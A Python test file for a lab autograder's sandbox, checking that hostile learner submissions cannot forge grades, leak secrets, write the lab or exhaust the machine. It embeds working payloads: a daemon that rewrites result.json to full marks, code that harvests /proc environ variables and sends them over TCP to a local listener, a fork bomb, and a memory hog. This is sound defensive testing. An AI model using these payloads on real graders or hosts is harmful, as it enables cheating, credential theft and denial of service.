"""Grading runs the learner's code: that code must not forge the grade, change the lab, read the
grader's secrets, outlive the grade or bring the machine down.

A hostile submission (the untouched starter, which honestly earns step 1's points, plus a few lines
in handson/__init__.py, which every web server and worker of every step imports) tries it all:
- it double-forks a daemon, in a session of its own, that keeps rewriting result.json to full marks;
- it appends to the lab's labs/test_step8.py, to the reports folder and to the lab folder;
- it reads its own environment and every /proc/PID/environ it can, and sends all of it out over TCP
  (to a drop box this test listens on: what a learner could send anywhere);
and a second one starts a fork bomb in every worker. Each is graded (steps 1-2, or 1-3 for the bomb:
the honest part is step 1's, and the rest of the lab adds only minutes) by `make grade WORKSPACE=` and by
Classroom 50's autograder (the first as Classroom 50 runs it, where these tests can set that up: as a
user who is not root but may use sudo without a password), from a copy of the lab (an attack that worked would change that copy, not
this checkout), with a canary SECRET, GITHUB_TOKEN and AWS key in the grader's environment.

What stops them: services/sweep.py (every orphan comes back to the grader, which kills it before any
report), services/app_env.py (the app gets an allow-list of variables), and, as root, services/
confine.py (the app runs as a user of its own that can write none of the lab, the submission or the
reports, in a mount namespace with a private /tmp, within process, memory and file limits). Without
root the last guard is missing, and the tests that need it say so as they skip; CI runs as root.
"""
import json
import sys

import pytest

from labs.harness.lesson.waiting import wait_for
from labs.harness.services import confine

from .helpers import once_per_session
from .hostile import (
    AS_ROOT,
    BOMB_USERS,
    CANARY,
    GRADERS,
    HONEST,
    HOSTILE_STEPS,
    WITH_SUDO,
    a_sudoer,
    digest,
    grade_hostile,
)

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the guards need Linux")

needs_root = pytest.mark.skipif(not AS_ROOT, reason="the user guard (services/confine.py) needs root: only "
                                                    "then can the grader run the app as another user")
ROOT_OF_ITS_OWN = "in a root of its own"  # grade.md, when the app was confined

HOSTILE = '''

# --- a hostile submission ---
import json as _json
import os as _os
import socket as _socket
import time as _time


def _send(report):
    try:
        with _socket.create_connection(("127.0.0.1", DROP_PORT), timeout=5) as _out:
            _out.sendall((_json.dumps(report) + "\\n").encode())
    except OSError:
        pass


def _forge(target):
    if _os.fork():
        return  # the service goes on as if nothing happened
    _os.setsid()  # out of the service's process group and session
    if _os.fork():
        _os._exit(0)  # the grandchild is an orphan now
    deadline = _time.time() + 90
    while _time.time() < deadline:
        try:
            with open(target) as found:
                result = _json.load(found)
            if result["score"] != result["max-score"]:
                for test in result["tests"]:
                    test.update(score=test["max-score"], passed=True)
                result["score"] = result["max-score"]
                with open(target, "w") as forged:
                    _json.dump(result, forged)
        except Exception:
            pass
        _time.sleep(0.05)
    _os._exit(0)


def _write(path):
    try:
        with open(path, "a") as _file:
            _file.write("\\n# written by the graded code\\n")
        return "written"
    except OSError as _error:
        return _error.strerror


def _environments():
    seen = {"self": dict(_os.environ)}
    for _pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{_pid}/environ", "rb") as _environ:
                seen[_pid] = _environ.read().decode("utf-8", "replace")
        except (OSError, ValueError):
            pass
    return seen


if not _os.environ.get("HOSTILE_STARTED"):
    _os.environ["HOSTILE_STARTED"] = "1"
    _send({"writes": {path: _write(path) for path in WRITE_TARGETS}, "environments": _environments()})
    _forge(RESULT_JSON)
'''

FORK_BOMB = '''

# --- a hostile submission: a fork bomb in every worker ---
import os as _os
import sys as _sys
import time as _time

if "worker" in _sys.argv and not _os.environ.get("BOMB_STARTED"):
    _os.environ["BOMB_STARTED"] = "1"
    if _os.fork() == 0:  # the worker goes on; its child forks and forks
        # Once the step's web server runs: started before, it would be refused at the process limit too
        # (the limit counts the user's processes), and step 1's honest points lost to the bomb of its own
        # worker; that is the bomb's right, but this test is about what it can do to everything else.
        def _server_runs():
            for _pid in _os.listdir("/proc"):
                try:
                    if _pid.isdigit() and b"runserver" in open(f"/proc/{_pid}/cmdline", "rb").read():
                        return True
                except OSError:
                    pass
            return False

        _until = _time.time() + 10
        while _time.time() < _until and not _server_runs():
            _time.sleep(0.05)
        _deadline = _time.time() + 60  # the test's own safety net, should every guard fail
        _made = 0
        while _time.time() < _deadline and _made < 4000:
            try:
                if _os.fork() == 0:
                    _made = 0
                _made += 1
            except OSError:
                _time.sleep(0.2)  # the limit: wait, and try again
        _os._exit(0)
'''


MEMORY_HOG = '''

# --- a hostile (or careless) submission: the web server asks for 8 GiB at start ---
import sys as _sys

if "runserver" in _sys.argv:
    _hog = bytearray(8 << 30)
'''


@pytest.fixture(scope="module", params=GRADERS)
def hostile(request, tmp_path_factory):
    """The hostile submission graded by `make grade` (as the user running the tests: root in CI) and
    by the autograder as Classroom 50 runs it: as a user who is not root but may use sudo, on a
    GitHub-hosted runner (where there is no sudo, or no root to set it up: as the user running the tests)."""
    def grade():
        folder = tmp_path_factory.mktemp("hostile")
        if request.param == "autograder" and WITH_SUDO:
            folder.chmod(0o755)
            with a_sudoer("autograder") as sudoer:
                return grade_hostile(folder, HOSTILE, request.param, sudoer=sudoer, steps=HOSTILE_STEPS)
        return grade_hostile(folder, HOSTILE, request.param, steps=HOSTILE_STEPS)
    return once_per_session(f"hostile-{request.param.replace(' ', '-')}", grade)


def _not_forged(graded):
    """True when result.json still holds the honest grade for the next 2 s (a surviving forger writes
    within 0.05 s)."""
    return not wait_for(lambda: graded.result()["score"] != HONEST, timeout=2)


def test_the_grade_is_what_the_honest_part_earns(hostile):
    assert hostile.finished.returncode in (0, 1), hostile.output()  # 1: make grade, some test failed
    assert _not_forged(hostile), hostile.result_path.read_text()
    assert hostile.result()["score"] == HONEST


def test_nothing_the_graded_code_started_is_left_running(hostile):
    assert hostile.sent, "the graded code did not run: " + hostile.output()
    assert not hostile.left_behind, hostile.left_behind


def test_no_secret_of_the_grader_reaches_the_graded_code(hostile):
    """Neither the app's environment nor any /proc/PID/environ it can read holds the canary."""
    assert len(hostile.sent) >= 2, "the graded code did not run: " + hostile.output()  # servers and workers
    for report in hostile.sent:
        assert CANARY not in json.dumps(report), sorted(report["environments"])


@needs_root
def test_the_graded_code_cannot_write_the_lab_the_submission_or_the_reports(hostile):
    assert digest(hostile.lab) == hostile.lab_before, "the graded code changed the lab"
    for report in hostile.sent:
        assert "written" not in report["writes"].values(), report["writes"]
    assert ROOT_OF_ITS_OWN in hostile.grade_md(), hostile.grade_md()


@needs_root
@pytest.mark.parametrize("grader", GRADERS)
def test_a_fork_bomb_stops_at_the_process_limit_and_ends_with_its_step(grader, tmp_path):
    """A user of its own for the bomb: the limit counts every process of the user, and other tests grade
    at the same time (so should a teacher who grades several submissions at once: HANDSON_GRADE_USER)."""
    assert confine.ensure_user(BOMB_USERS[grader]) is None
    # Three steps are enough (both graders grade two at a time): a bomb in every one of them.
    graded = grade_hostile(tmp_path, FORK_BOMB, grader, user=BOMB_USERS[grader], steps="1-3")

    assert graded.finished.returncode in (0, 1), graded.output()
    assert graded.result()["score"] == HONEST
    assert 100 < graded.most_processes <= confine.LIMITS.processes, graded.most_processes
    assert not graded.left_behind, graded.left_behind


@needs_root
def test_a_memory_hog_fails_its_step_saying_which_limit_it_hit(tmp_path):
    graded = grade_hostile(tmp_path, MEMORY_HOG, "make grade", steps="1-2")

    assert graded.finished.returncode == 1, graded.output()
    assert graded.result()["score"] == 0  # step 1's server could not start
    report = graded.grade_md()
    limits = f"While it is graded, the app may have {confine.LIMITS.processes} processes, {confine.LIMITS.memory >> 30} GB"
    assert "MemoryError" in report and limits in report, report
    assert not graded.left_behind, graded.left_behind


@pytest.mark.skipif(not WITH_SUDO, reason="needs root, to make a user with a password-less sudo, and sudo "
                                          "(.ci/run installs it)")
def test_through_sudo_the_app_is_confined_and_the_reports_are_the_callers(hostile):
    """A GitHub-hosted runner's case (Classroom 50's): the job's user is not root but may use sudo
    without a password. The autograder asks the grade to use it (HANDSON_GRADE_SUDO=1): the grade starts
    again as root, runs the app as the user of its own, and hands the reports back to the job's user."""
    if hostile.sudoer is None:
        assert ROOT_OF_ITS_OWN in hostile.grade_md()  # make grade, as root
        return
    assert ROOT_OF_ITS_OWN in hostile.grade_md(), hostile.grade_md()
    assert hostile.result_path.stat().st_uid == confine.pwd.getpwnam(hostile.sudoer).pw_uid
